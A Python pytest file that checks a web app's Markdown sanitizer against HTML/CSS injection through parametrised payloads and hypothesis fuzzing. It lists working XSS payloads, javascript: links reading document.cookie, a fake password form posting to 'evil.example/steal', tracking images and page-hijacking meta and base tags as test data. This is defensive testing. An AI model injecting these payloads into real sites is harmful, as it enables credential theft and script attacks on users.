"""safe_markdown against HTML/CSS injection: every payload class of the security review (raw HTML behind escaped
backticks, full-page overlays, forms posting elsewhere, raw links, tracking images), Markdown autolinks and
reference links, wrapped in every Markdown context, plus a hypothesis fuzz. The output may hold only the tags
CommonMark makes and only safe attributes. The browser side (what a reviewer sees) is in tests/e2e."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from webapp.tabs.common import plain_text, safe_markdown

ALLOWED_TAGS = {"p", "em", "strong", "code", "pre", "a", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li",
                "blockquote", "hr", "br"}
PAYLOADS = [
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Session expired</div>',
    '<form action="http://evil.example/steal" method="post"><input name="password" type="password"></form>',
    '<a href="http://evil.example/">raw link</a>',
    '<img src="http://evil.example/track.gif">',
    '<img src=x onerror=alert(1)>',
    "<script>alert(1)</script>",
    "<style>body{display:none}</style>",
    '<iframe src="http://evil.example/"></iframe>',
    '<svg onload=alert(1)>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    "<!-- comment --><b onclick=alert(1)>bold</b>",
    '<details open ontoggle=alert(1)>',
    "![tracker](http://evil.example/pixel.png)",
    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
    "[click](javascript:alert(document.cookie))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<http://evil.example/autolink>",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "[ref][2]\n\n[2]: http://evil.example/ref \"title\" ",
    "![ref-img][3]\n\n[3]: http://evil.example/track.gif",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    '<a href="#" style="position:fixed;top:0">x</a>',
    "<p style=\"color:red\">css</p>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
]
WRAPPERS = [
    "{}",
    "\\`{}\\`",  # the reported bypass: escaped backticks around raw HTML
    "`{}`",
    "``{}``",
    "```\n{}\n```",
    "    {}",
    "> {}",
    "- {}",
    "1. {}",
    "# {}",
    "*{}*",
    "**{}**",
    "text\\\n{}",
    "[{}](http://ok.example/)",
    "| a |\n|---|\n| {} |",
]


class Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if tag == "a" and name == "href" and (value or "").startswith(("http://", "https://", "mailto:")):
                continue
            if tag == "a" and name == "rel" and value == "nofollow noopener noreferrer":
                continue
            if tag == "a" and name == "title":
                continue
            self.problems.append(f"attribute {name}={value!r} on <{tag}>")

    def handle_comment(self, data: str) -> None:
        self.problems.append("comment")


def problems(text: str) -> list[str]:
    checker = Checker()
    checker.feed(safe_markdown(text))
    checker.close()
    return checker.problems


@pytest.mark.parametrize("wrapper", WRAPPERS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_markdown_renders_only_safe_html(payload, wrapper):
    assert problems(wrapper.format(payload)) == []


def test_ordinary_markdown_still_renders():
    out = safe_markdown("# Title\n\n**bold** and `code`, a [link](https://example.org).\n\n```py\nx < 1\n```")
    assert "<h1>Title</h1>" in out and "<strong>bold</strong>" in out and "<code>code</code>" in out
    assert 'href="https://example.org"' in out and "x &lt; 1" in out


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(["<", ">", "`", "\\", "[", "]", "(", ")", "!", ":", "\n", " ", "*", "_", "#", '"',
                                 "'", "=", "/", "&", ";", "div", "img", "a", "style", "src", "href", "javascript",
                                 "http", "onerror", "x", "1", "-", "|"]), max_size=60).map("".join))
def test_fuzzed_markdown_renders_only_safe_html(text):
    assert problems(text) == []


class TextOf(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text += data


def shown_in_list_item(text: str) -> TextOf:
    """plain_text(text) in a Markdown list item, rendered by a CommonMark renderer that lets raw HTML through (as
    the browser's Markdown does): what tags it makes and what text a reader sees."""
    parsed = TextOf()
    parsed.feed(MarkdownIt("commonmark").render(f"- excluded by alice: {plain_text(text)}"))
    return parsed


@pytest.mark.parametrize("payload", [*PAYLOADS, "personal data", "1. # *not* a heading\n- nor a list"])
def test_plain_text_shows_the_text_itself_in_a_list_item(payload):
    shown = shown_in_list_item(payload)
    assert shown.tags == ["ul", "li"] and shown.text.strip() == "excluded by alice: " + " ".join(payload.split())


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>`\\[]()!:\n *_#\"'=/&;-|.+~{}1ax")), max_size=60))
def test_fuzzed_plain_text_is_only_text(text):
    shown = shown_in_list_item(text)
    assert shown.tags == ["ul", "li"] and shown.text.strip() == " ".join(f"excluded by alice: {text}".split())


@pytest.mark.parametrize("fence", ["```<\nx\n```", "```py\nx\n```", '```" onclick="alert(1)\nx\n```'])
def test_a_fence_info_string_becomes_no_class_attribute(fence):
    # found by the fuzzer: ```< rendered <code class="language-<">
    assert problems(fence) == []
